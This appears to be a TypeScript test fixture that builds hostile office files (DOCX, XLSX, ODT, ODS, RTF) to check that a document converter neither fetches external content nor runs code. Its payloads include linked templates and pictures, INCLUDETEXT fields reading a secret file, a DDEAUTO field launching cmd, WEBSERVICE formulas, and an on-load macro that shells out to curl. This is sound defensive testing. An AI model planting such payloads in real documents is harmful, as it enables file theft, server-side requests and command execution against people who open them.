import type { HostileInput } from './hostile-input.ts';
import { linkedPicture, openDocumentOf, sheetOf, wordOf } from './office-packages.ts';

const text = '<w:p><w:r><w:t>text</w:t></w:r></w:p>';
const field = (instruction: string) =>
  `<w:p><w:fldSimple w:instr="${instruction}"><w:r><w:t>before</w:t></w:r></w:fldSimple></w:p>`;

/** Documents that reach out when they are opened: each is converted without, or refused. */
export const officeReaching: readonly HostileInput[] = [
  {
    name: 'DOCX with pictures linked to a server and to a file',
    filename: 'a.docx',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      wordOf(linkedPicture('rId1') + linkedPicture('rId2') + text, {
        relations: [
          { kind: 'image', target: `${origin}/docx.png`, external: true },
          { kind: 'image', target: `file://${secretPath}`, external: true },
        ],
      }),
  },
  {
    name: 'DOCX with a template on a server',
    filename: 'a.docx',
    outcome: 'either',
    bytes: ({ origin }) =>
      wordOf(text, {
        relations: [
          { kind: 'attachedTemplate', target: `${origin}/template.dotx`, external: true },
        ],
      }),
  },
  {
    name: 'DOCX with fields that include a file and a picture',
    filename: 'a.docx',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      wordOf(
        field(`INCLUDETEXT &quot;${secretPath}&quot;`) +
          field(`INCLUDEPICTURE &quot;${origin}/field.png&quot;`) +
          field(`DDEAUTO cmd &quot;/c calc&quot;`) +
          text,
      ),
  },
  {
    name: 'DOCX that embeds HTML with an address',
    filename: 'a.docx',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      wordOf(`<w:altChunk r:id="rId1"/>${text}`, {
        relations: [{ kind: 'aFChunk', target: 'chunk.html' }],
        parts: {
          'word/chunk.html': `<img src="${origin}/chunk"><iframe src="file://${secretPath}">`,
        },
      }),
  },
  {
    name: 'XLSX with a web query, an external link and a hyperlink formula',
    filename: 'a.xlsx',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      sheetOf(
        `<row r="1"><c r="A1"><f>WEBSERVICE("${origin}/formula")</f></c><c r="B1"><f>` +
          `'file://${secretPath}'#$A.A1</f></c><c r="C1"><f>[1]A!A1</f></c></row>`,
        { relations: [{ kind: 'externalLink', target: `${origin}/book.xlsx`, external: true }] },
      ),
  },
  {
    name: 'ODT with sections and pictures linked to a file and a server',
    filename: 'a.odt',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      openDocumentOf(
        'text',
        `<text:section text:name="a"><text:section-source xlink:href="file://${secretPath}" ` +
          'xlink:type="simple"/></text:section><text:section text:name="b">' +
          `<text:section-source xlink:href="${origin}/section.odt" xlink:type="simple"/>` +
          `</text:section><text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image ` +
          `xlink:href="${origin}/odt.png" xlink:type="simple" xlink:actuate="onLoad"/>` +
          `</draw:frame><draw:frame svg:width="2cm" svg:height="2cm"><draw:object xlink:href=` +
          `"file://${secretPath}"/></draw:frame>text</text:p>`,
      ),
  },
  {
    name: 'ODT with a macro that runs when it is opened',
    filename: 'a.odt',
    outcome: 'either',
    bytes: ({ origin }) =>
      openDocumentOf('text', '<text:p>text</text:p>', {
        scripts:
          '<office:scripts><office:event-listeners><script:event-listener script:language=' +
          '"ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.' +
          'Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>' +
          '</office:event-listeners></office:scripts>',
        parts: {
          'Basic/script-lc.xml':
            '<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink=' +
            '"http://www.w3.org/1999/xlink"><library:library library:name="Standard" ' +
            'library:link="false"/></library:libraries>',
          'Basic/Standard/script-lb.xml':
            '<library:library xmlns:library="http://openoffice.org/2000/library" library:name=' +
            '"Standard"><library:element library:name="Module1"/></library:library>',
          'Basic/Standard/Module1.xml':
            '<script:module xmlns:script="http://openoffice.org/2000/script" script:name=' +
            `"Module1" script:language="StarBasic">Sub Main\nShell("curl ${origin}/macro")\n` +
            'End Sub</script:module>',
        },
      }),
  },
  {
    name: 'ODS with a sheet linked to a file and one to a server',
    filename: 'a.ods',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      openDocumentOf(
        'spreadsheet',
        `<table:table table:name="A"><table:table-source xlink:href="file://${secretPath}" ` +
          'table:filter-name="Text - txt - csv (StarCalc)"/><table:table-row><table:table-cell ' +
          `table:formula="of:=WEBSERVICE(&quot;${origin}/ods&quot;)"/></table:table-row>` +
          `</table:table><table:table table:name="B"><table:table-source xlink:href="${origin}/b"` +
          '/><table:table-row><table:table-cell/></table:table-row></table:table>',
      ),
  },
  {
    name: 'RTF with included pictures and text, and an embedded object',
    filename: 'a.rtf',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      Buffer.from(
        `{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${origin}/rtf.png" \\\\d}{\\fldrslt x}}` +
          `{\\field{\\*\\fldinst INCLUDETEXT "${secretPath}"}{\\fldrslt y}}` +
          `{\\*\\template ${origin}/rtf.dot}{\\object\\objautlink\\objupdate{\\*\\objdata ` +
          '0105000002000000}} text\\par}',
      ),
  },
];
